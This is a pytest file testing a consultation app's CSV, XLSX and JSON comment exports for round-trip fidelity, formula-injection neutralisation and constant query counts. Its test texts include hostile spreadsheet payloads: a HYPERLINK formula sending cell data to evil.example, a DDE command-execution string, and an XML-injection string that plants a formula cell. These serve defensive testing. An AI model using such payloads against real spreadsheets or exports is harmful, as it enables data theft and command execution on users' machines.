"""Each export format parsed back (csv module, openpyxl, json) holds exactly the stored texts:
Chinese, line breaks, XML-special characters and formula payloads (made text in CSV and XLSX,
kept as typed in JSON). An export runs the same number of SQL statements for 3 or 60 comments."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from bench.counts import counting
from helpers import make_comment
from westlake_feedback.exports_safety import is_risky
from westlake_feedback.extensions import db
from westlake_feedback.moderation.models import Decision

BASE = "/staff/c/xihu-2023-demo/export"
TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "\t=1",
    "\r=1",
    "\u3000=1",
    # xlsxwriter's constant-memory mode writes such a string into the XML unescaped:
    '<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://evil.example")</f></c><c><is><r><t>b</t></r>',
    "第一行：建议增加停车位。\n第二行：请明确“时间节点”，A&B <标签> 'x'",
    "  前后有空格  ",
    "第12条应当修改为：居民优先；企业其次。",
]


@pytest.fixture
def texts(seeded, staff, app):
    """One comment per text: the text as body, name, organisation and decision response; the
    first on clause 12, the others alternating between clause 3 and the whole draft."""
    with app.app_context():
        start = datetime(2026, 11, 20, 1, 0, tzinfo=timezone.utc)
        for index, text in enumerate(TEXTS):
            comment_id = make_comment(clause=(12, 3, None)[index % 3], body=text, name=text[:100],
                                      organisation=text[:200], created_at=start + timedelta(minutes=index))
            db.session.add(Decision(comment_id=comment_id, outcome="explained", response=text))
        db.session.commit()
    return list(reversed(TEXTS))  # newest first, the queue's default order


def cell(text: str) -> str:
    return "'" + text if is_risky(text) else text


def test_csv_parses_back_to_the_stored_texts(texts, login_as):
    data = login_as("admin").get(BASE + ".csv").data
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row["意见内容"] for row in rows] == [cell(t) for t in texts]
    assert [row["姓名"] for row in rows] == [cell(t[:100]) for t in texts]
    assert [row["单位"] for row in rows] == [cell(t[:200]) for t in texts]
    assert [row["答复"] for row in rows] == [cell(t) for t in texts]
    assert {row["是否采纳"] for row in rows} == {"解释说明"}
    assert {row["条款标题"] for row in rows if row["条款号"] == "12"} and {r["条款号"] for r in rows} == {"12", "3", ""}


def test_xlsx_parses_back_to_the_stored_texts(texts, login_as):
    data = login_as("admin").get(BASE + ".xlsx").data
    wb = load_workbook(io.BytesIO(data))
    ws = wb["意见"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [row[13] for row in rows] == [cell(t) for t in texts]
    assert [row[10] for row in rows] == [cell(t[:100]) for t in texts]
    assert [row[16] for row in rows] == [cell(t) for t in texts]
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for one in row:
                assert one.data_type in ("s", "n"), (sheet.title, one.coordinate, one.data_type)
    assert ws.max_column == 23  # nothing injected beyond column W
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        sheet = package.read("xl/worksheets/sheet2.xml").decode()
        assert "<f>" not in sheet and "&lt;r&gt;&lt;t&gt;a" in sheet


def test_xlsx_keeps_literal_excel_escapes(seeded, staff, app, login_as):
    """Excel reads `_x0041_` in a cell as "A"; the export protects it as Excel itself does."""
    with app.app_context():
        make_comment(clause=12, body="编码_x0041_不应被解释")
    data = login_as("admin").get(BASE + ".xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "编码_x005F_x0041_不应被解释" in package.read("xl/worksheets/sheet2.xml").decode()


def test_json_keeps_the_texts_as_typed(texts, login_as):
    items = json.loads(login_as("moderator").get(BASE + ".json").data.decode("utf-8"))
    assert [item["body"] for item in items] == texts
    assert [item["name"] for item in items] == [t[:100] for t in texts]
    assert [item["response"] for item in items] == texts
    assert set(items[0]) == {"receipt_code", "submitted_at", "channel", "status", "section", "clause_number",
                             "clause_title", "stance", "identity_type", "organisation", "name", "phone", "email",
                             "body", "published_body", "decision", "response", "moderation_reason", "publish_name",
                             "round", "cluster_id", "cluster_size", "tags"}


def statements(app, client, url: str) -> int:
    with counting(app) as seen:
        response = client.get(url)
        assert response.status_code == 200
        response.get_data()  # the streamed body runs its queries while it is read
    return len(seen)


def add_comments(app, count: int) -> None:
    with app.app_context():
        for i in range(count):
            comment_id = make_comment(clause=(i % 5) or None, body=f"第{i}条意见：建议明确时间节点。",
                                      phone=f"1380000{i:04d}", email=f"u{i}@example.com")
            if i % 2:
                db.session.add(Decision(comment_id=comment_id, outcome="adopted", response=""))
        db.session.commit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("query", ["", "?sort=clause&decision=decided", "?q=意见&section=2"])
def test_export_statements_do_not_grow_with_the_rows(seeded, login_as, fmt, query):
    analyst = login_as("analyst")
    url = f"{BASE}.{fmt}{query}"
    add_comments(seeded, 3)
    statements(seeded, analyst, url)  # warm: the first request of a session does extra work
    few = statements(seeded, analyst, url)
    add_comments(seeded, 57)
    many = statements(seeded, analyst, url)
    assert many == few
    assert few <= 12
